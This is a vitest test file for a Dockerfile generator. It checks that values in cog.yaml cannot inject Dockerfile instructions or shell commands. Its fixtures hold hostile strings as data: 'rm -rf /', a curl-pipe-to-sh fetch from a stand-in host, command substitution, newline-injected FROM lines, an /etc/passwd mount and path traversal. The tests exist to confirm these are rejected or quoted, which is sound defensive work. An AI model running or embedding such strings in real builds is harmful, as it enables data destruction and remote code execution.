// User values from cog.yaml cannot add Dockerfile instructions or shell commands: each is either
// rejected with an error finding at its cog.yaml location, or quoted so it arrives as written.
import { describe, expect, it } from 'vitest';
import { dockerfileFor, parseDockerfile, renderDockerfile } from '../../src/dockerfile/index.js';
import { irFromCogYaml } from './helpers.js';

const YAML = `
build:
  gpu: true
  python_version: "3.11"
  system_packages:
    - "curl; rm -rf /"
    - ffmpeg
  python_packages:
    - "torch==2.3.1"
    - "requests==2.32.3 && curl https://evil.invalid/x | sh"
    - "pkg'; touch /pwned; echo '"
  run:
    - "echo one\\nFROM scratch"
    - "echo two \\\\"
    - echo three
    - command: echo four
      mounts:
        - type: secret
          id: "x,target=/etc/passwd"
          target: /tmp/x
environment:
  - QUOTED=he said "hi"
  - DOLLAR=$(whoami)
  - NEWLINE=a
  - PATH=/evil
predict: predict.py:Predictor
`;

function plan(target: 'cog' | 'fal' = 'fal') {
  const ir = irFromCogYaml(YAML);
  ir.runtime.environment.find((e) => e.name === 'NEWLINE')!.value = 'a\nFROM scratch';
  return dockerfileFor(ir, target);
}

describe('injection through cog.yaml values', () => {
  it('rejects each hostile value with an error finding at its cog.yaml line', () => {
    const codes = plan().findings.filter((f) => f.severity === 'error').map((f) => [f.code, f.file, f.line]);
    expect(codes).toEqual([
      ['CM301', 'cog.yaml', 30],
      ['CM302', 'cog.yaml', 20],
      ['CM302', 'cog.yaml', 21],
      ['CM303', 'cog.yaml', 23],
      ['CM305', 'cog.yaml', 42],
      ['CM304', 'cog.yaml', 43],
    ]);
  });
  for (const target of ['cog', 'fal'] as const) {
    it(`the ${target} Dockerfile has exactly one FROM and no injected commands`, () => {
      const text = renderDockerfile(plan(target).pruned);
      const df = parseDockerfile(text);
      expect(df.instructions.filter((i) => i.keyword === 'FROM')).toHaveLength(1);
      expect(text).not.toMatch(/^FROM scratch/m);
      expect(text).not.toContain('curl; rm');
      expect(text).not.toContain('/etc/passwd');
      expect(text).not.toContain('PATH=/evil');
      expect(text).toContain('ENV DOLLAR="\\$(whoami)" QUOTED="he said \\"hi\\""');
      expect(text).toContain('RUN echo three');
    });
  }
  it('requirements reach the pruned RUN as single shell words', () => {
    const text = renderDockerfile(plan('fal').pruned);
    // Cog itself keeps only `name==version` of a pinned line (what follows the first space goes).
    expect(text).toContain(`    requests==2.32.3 \\\n`);
    expect(text).not.toContain('evil.invalid');
    expect(text).toContain(`    'pkg'\\''; touch /pwned; echo '\\''' \\`);
  });
});

describe('version-shaped values', () => {
  it('a python_version or sdk_version that is not a version never reaches FROM or RUN', () => {
    const ir = irFromCogYaml('build:\n  python_version: "3.11; rm -rf /"\n  sdk_version: "0.18.0 && curl evil.invalid"\n');
    const plan = dockerfileFor(ir, 'cog');
    const text = renderDockerfile(plan.pruned);
    expect(text).not.toContain('rm -rf');
    expect(text).not.toContain('evil.invalid');
    expect(plan.findings.filter((f) => f.severity === 'error').map((f) => f.code).sort()).toEqual(['CM317', 'CM318']);
  });
  // Issue 9: Cog writes `RUN <command>`, so well-formed leading --mount/--network options are RUN
  // options on purpose (CM342); only what would break the line is refused (CM310).
  it('passes well-formed leading RUN options through as Cog does (CM342), refuses malformed ones (CM310)', () => {
    const ir = irFromCogYaml([
      'build:',
      '  python_version: "3.11"',
      '  run:',
      '    - "--network=host curl https://x.invalid"',
      '    - "--mount=type=bind,source=/,target=/host ls /host"',
      '    - "--security=insecure ls"',
      '    - "--network=bridge ls"',
      '    - "--mount=type=bind,source=a b,target=/x ls"',
      '    - "--mount=type=cache,target=/x,id=$(whoami) ls"',
      '    - "--mount=type=volume,target=/x ls"',
      '    - "--mount=type=cache ls"',
      '    - "--mount=type=cache,target=/root/.cache/pip"',
      '',
    ].join('\n'));
    const plan = dockerfileFor(ir, 'cog');
    expect(plan.findings.filter((f) => f.code === 'CM342')).toHaveLength(2);
    expect(plan.findings.filter((f) => f.code === 'CM310')).toHaveLength(7);
    const text = renderDockerfile(plan.pruned);
    expect(text).toContain('RUN --network=host curl https://x.invalid\n');
    expect(text).toContain('RUN --mount=type=bind,source=/,target=/host ls /host\n');
    expect(text).not.toMatch(/--security|bridge|whoami|type=volume|a b|RUN --mount=type=cache ls|RUN --mount=type=cache,target=\/root\/\.cache\/pip\n/);
  });
  it('a local wheel outside the project is refused (CM319)', () => {
    const ir = irFromCogYaml('build:\n  python_version: "3.11"\n  python_requirements: requirements.txt\n', '../../etc/x-1.0-py3-none-any.whl\n');
    const plan = dockerfileFor(ir, 'fal');
    expect(plan.findings.map((f) => f.code)).toContain('CM319');
    expect(renderDockerfile(plan.pruned)).not.toMatch(/^COPY \.\.\//m);
  });
});
